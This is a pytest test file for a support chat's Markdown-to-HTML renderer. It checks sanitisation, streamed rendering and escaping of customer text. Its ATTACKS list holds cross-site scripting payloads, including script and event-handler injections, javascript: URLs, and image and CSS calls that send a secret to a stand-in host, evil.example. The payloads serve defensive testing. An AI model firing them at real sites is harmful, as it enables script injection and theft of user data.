"""Markdown to HTML: nothing of it can do harm, and a text that grows ends as the same HTML."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support_site.chat.rendering import StreamingBlocks, blocks, in_words, plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "<javascript:alert(1)>",
    '[x](https://a.example "title\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<!-- <script>alert(1)</script> -->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <form action=//evil.example><input name=p></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[a](https://x.example)<b onclick=alert(1)>b</b>",
    "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<x onclick=alert(1)>\n\n<x>",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s[^<>]*)?)>", re.IGNORECASE)
HARMLESS_ATTRIBUTES = re.compile(
    r'(\s(href="(https?:|mailto:)[^"<>]*"|target="_blank"|rel="noopener nofollow"|start="\d+"))*'
)


def assert_harmless(html):
    for _, name, attributes in TAG.findall(html):
        assert name.lower() not in {"script", "img", "svg", "iframe", "style", "form", "input", "object", "x", "b"}, (
            html
        )
        assert HARMLESS_ATTRIBUTES.fullmatch(attributes), html
    assert "<!--" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_markdown_becomes_anything_that_acts(attack):
    assert_harmless("".join(blocks(attack)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_markdown_acts_at_any_moment_while_it_is_streamed(attack):
    stream = StreamingBlocks()
    for letter in attack:
        stream.extend(letter)
        changed = stream.changes()
        if changed:
            assert_harmless("".join(changed[1]))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_customer_types_is_shown_as_typed(attack):
    assert TAG.sub("", plain(attack)).count("<") == 0
    assert {name for _, name, _ in TAG.findall(plain(attack))} <= {"p", "br"}


def test_blocks_are_the_paragraphs_lists_and_tables_of_the_text():
    found = blocks("Your order **#W1**:\n\n- lamp\n- desk\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nBye")
    assert found[0] == "<p>Your order <strong>#W1</strong>:</p>"
    assert [html[:3] for html in found] == ["<p>", "<ul", "<ta", "<p>"]


def test_links_open_elsewhere_and_vouch_for_nothing():
    [html] = blocks("[track](https://carrier.example/1)")
    assert html == '<p><a href="https://carrier.example/1" target="_blank" rel="noopener nofollow">track</a></p>'


def test_what_a_customer_types_keeps_its_lines():
    assert plain("a\nb\n\nc & d") == "<p>a<br>b</p>\n\n<p>c &amp; d</p>"


LINES = [
    "1. one",
    "2. two",
    "10) x",
    "- a",
    "  b",
    "+ y",
    "> q",
    "# h",
    "---",
    "* * *",
    "    code",
    "```",
    "| a |",
    "|---|",
    "",
]
BITS = ["para", " ", "*x*", "**", "`", "<b>", "\\", "[l](https://a.example)", "\u2028", "\r\n", "~~s~~", "é"]
PIECES = st.sampled_from([line + "\n" for line in [*LINES, "| a |", "|---|"]] + BITS)


@given(st.lists(PIECES, max_size=25), st.data())
@settings(max_examples=300, deadline=None)
def test_a_text_that_grows_ends_as_the_blocks_of_the_whole(pieces, data):
    text = "".join(pieces) + "\n\nend\n"
    stream, shown, at = StreamingBlocks(), [], 0
    while at < len(text):
        step = data.draw(st.integers(1, 7))
        stream.extend(text[at : at + step])
        at += step
        changed = stream.changes()
        if changed:
            start, new = changed
            assert start <= len(shown), "a change may not leave a hole"
            shown[start:] = new
    assert shown == blocks(text)


def test_only_the_open_end_of_a_long_text_is_rendered_again():
    stream = StreamingBlocks()
    for number in range(200):
        stream.extend(f"Paragraph {number}.\n\n")
        start, changed = stream.changes()
        assert (start, len(changed)) == (number, 1)
    assert len(stream.text) - stream._settled_chars < 100


def test_a_list_shows_a_message_in_words_and_without_its_marks():
    html = "".join(blocks("Order **#12345** is < 5 days & late.\n\n- one\n- two"))
    assert in_words(html) == "Order #12345 is < 5 days & late. one two"
    assert in_words(None) == ""
